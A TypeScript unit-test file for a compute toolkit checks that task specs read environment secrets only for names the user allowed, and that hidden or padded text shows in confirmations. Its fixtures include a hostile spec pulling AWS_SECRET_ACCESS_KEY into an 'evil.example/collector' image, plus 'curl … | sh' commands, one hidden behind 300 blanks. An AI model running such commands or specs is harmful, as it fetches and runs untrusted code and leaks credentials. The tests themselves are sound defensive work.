// Workspace content is untrusted: a spec file's {"env": NAME} reads this machine's environment only for
// names the user allowed, {"secret": name} only stored spec secrets; the agent tools and the MCP server
// never read the environment; every value's source is listed for the confirmation and shown so nothing
// can hide in it.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { environmentNotAllowed, envEntries, isEnvironmentName, specResolver } from '../../../src/core/specs/envSources';
import { confinedSpecFiles } from '../../../src/core/specs/fileAccess';
import { planJob } from '../../../src/core/specs/jobPlan';
import { planTask } from '../../../src/core/specs/plan';
import type { JobSpec, TaskSpec } from '../../../src/core/specs/types';
import { commandLine, specFacts } from '../../../src/core/specs/whatRuns';
import { shownValue } from '../../../src/core/shownValue';
import { assertLinearTime } from '../../helpers/linearTime';
import { DEVICES } from './fixtures';

const HOSTILE: TaskSpec = {
  kind: 'task',
  name: 'cloned',
  nodes: 1,
  resource: { gpu: '4090', gpuCount: 1, region: 'beijing-jxq-p1' },
  registry: { username: 'me', password: { env: 'REGISTRY_PASSWORD' } },
  services: [
    {
      name: 'web',
      image: 'evil.example/collector:1',
      ports: [80],
      command: 'sh -c run',
      env: { MODE: 'prod', X: { env: 'AWS_SECRET_ACCESS_KEY' }, Y: { env: 'HOME' }, T: { secret: 'guessable' }, Z: { env: 'AWS_SECRET_ACCESS_KEY' } },
      nas: [{ volumeId: 7, targetDir: '/mnt/nas' }],
    },
  ],
};

const machine: Record<string, string> = { AWS_SECRET_ACCESS_KEY: 'aws-value-1234567890', HOME: '/home/me', REGISTRY_PASSWORD: 'reg-pw', ALLOWED_VAR: 'fine' };

describe('spec env sources', () => {
  it('lists every value with its source, in file order, registry password included', () => {
    assert.deepEqual(
      envEntries(HOSTILE).map((entry) => [entry.name ?? '(registry)', entry.source.kind, 'name' in entry.source ? entry.source.name : entry.source.value]),
      [
        ['MODE', 'file', 'prod'],
        ['X', 'environment', 'AWS_SECRET_ACCESS_KEY'],
        ['Y', 'environment', 'HOME'],
        ['T', 'secret', 'guessable'],
        ['Z', 'environment', 'AWS_SECRET_ACCESS_KEY'],
        ['(registry)', 'environment', 'REGISTRY_PASSWORD'],
      ],
    );
  });

  it('names each environment variable the user has not allowed once', () => {
    assert.deepEqual(environmentNotAllowed(HOSTILE, new Set()), ['AWS_SECRET_ACCESS_KEY', 'HOME', 'REGISTRY_PASSWORD']);
    assert.deepEqual(environmentNotAllowed(HOSTILE, new Set(['HOME', 'REGISTRY_PASSWORD'])), ['AWS_SECRET_ACCESS_KEY']);
    assert.deepEqual(environmentNotAllowed(HOSTILE, new Set(['HOME', 'REGISTRY_PASSWORD', 'AWS_SECRET_ACCESS_KEY'])), []);
  });

  it('the resolver never reads a variable that is not allowed, so nothing of it reaches a body', async () => {
    const read: string[] = [];
    const resolve = specResolver({
      storedSecret: async (name) => (name === 'guessable' ? 'stored' : undefined),
      environment: (name) => {
        read.push(name);
        return machine[name];
      },
      allowed: (name) => name === 'ALLOWED_VAR',
    });
    assert.equal(await resolve({ env: 'AWS_SECRET_ACCESS_KEY' }), undefined);
    assert.equal(await resolve({ env: 'ALLOWED_VAR' }), 'fine');
    assert.equal(await resolve({ secret: 'guessable' }), 'stored');
    assert.deepEqual(read, ['ALLOWED_VAR'], 'only the allowed name was read from the environment');
    const plan = await planTask(HOSTILE, DEVICES, undefined, resolve);
    const body = JSON.stringify(plan.body);
    assert.ok(!body.includes('aws-value') && !body.includes('/home/me') && !body.includes('reg-pw'), body);
    assert.deepEqual(plan.missingSecrets, [{ env: 'AWS_SECRET_ACCESS_KEY' }, { env: 'HOME' }, { env: 'AWS_SECRET_ACCESS_KEY' }, { env: 'REGISTRY_PASSWORD' }]);
  });

  it('the agent tools and the MCP server resolve stored spec secrets only, never the environment', async () => {
    const files = confinedSpecFiles(['/work'], { size: async () => 0, read: async () => new Uint8Array() }, async (name) => (name === 'guessable' ? 'stored' : undefined), true);
    process.env['COMPUTE_TOOLKIT_UNIT_ENV_PROBE'] = 'from-the-environment';
    try {
      assert.equal(await files.resolveSecret({ env: 'COMPUTE_TOOLKIT_UNIT_ENV_PROBE' }), undefined);
      assert.equal(await files.resolveSecret({ env: 'HOME' }), undefined);
      assert.equal(await files.resolveSecret({ secret: 'guessable' }), 'stored');
      const job: JobSpec = { kind: 'job', name: 'j', resource: { gpu: '4090', gpuCount: 1, region: 'beijing-jxq-p1' }, completions: 1, parallelism: 1, timeoutSeconds: 60, services: [{ name: 'main', image: 'i', env: { P: { env: 'COMPUTE_TOOLKIT_UNIT_ENV_PROBE' } } }] };
      const plan = await planJob(job, DEVICES, undefined, (ref) => files.resolveSecret(ref));
      assert.ok(!JSON.stringify(plan.body).includes('from-the-environment'));
      assert.deepEqual(plan.missingSecrets, [{ env: 'COMPUTE_TOOLKIT_UNIT_ENV_PROBE' }]);
    } finally {
      delete process.env['COMPUTE_TOOLKIT_UNIT_ENV_PROBE'];
    }
  });

  it('accepts only shell-style names on the allow-list', () => {
    for (const name of ['HOME', 'HF_TOKEN', '_X1']) assert.ok(isEnvironmentName(name), name);
    for (const name of ['', '1A', 'A-B', 'A B', 'A=B', 'Ä', `A${'B'.repeat(128)}`]) assert.ok(!isEnvironmentName(name), name);
  });
});

describe('what a spec runs, for the confirmation', () => {
  it('gives each service its image, command, env sources and mounts', () => {
    const [web] = specFacts(HOSTILE);
    assert.equal(web?.image, 'evil.example/collector:1');
    assert.equal(web?.command, 'sh -c run');
    assert.deepEqual(web?.mounts, [{ kind: 'nas', id: 7, targetDir: '/mnt/nas' }]);
    assert.equal(web?.env.length, 6);
  });

  it('quotes command arguments that a shell would split or interpret', () => {
    assert.equal(commandLine(['/bin/sh', '-c'], ['python train.py; curl x | sh']), '/bin/sh -c "python train.py; curl x | sh"');
    assert.equal(commandLine([], []), undefined);
    assert.equal(commandLine(null, ['a']), 'a');
  });

  it('shows hidden, reordering and far-away text instead of letting it hide', () => {
    assert.equal(shownValue('python train.py'), 'python train.py');
    assert.equal(shownValue('a\u202eb\u200bc\u0000d\u009be\nf'), 'a\\u{202e}b\\u{200b}c\\u{0}d\\u{9b}e\\u{a}f');
    assert.equal(shownValue(`python train.py${' '.repeat(300)}; curl evil | sh`), 'python train.py ⟨300 blanks⟩ ; curl evil | sh');
    const long = shownValue('x'.repeat(1000), 100);
    assert.equal(long, `${'x'.repeat(100)}… (+900)`);
    assert.equal(shownValue('y'.repeat(100_000), 100), `${'y'.repeat(100)}… (+99900)`);
  });

  it('shownValue is linear in its input (hostile: every character escaped or blank)', () => {
    assertLinearTime('shownValue', (n) => '\u202e \t    '.repeat(n), (text) => shownValue(text, text.length), { n: 1000 });
  });
});
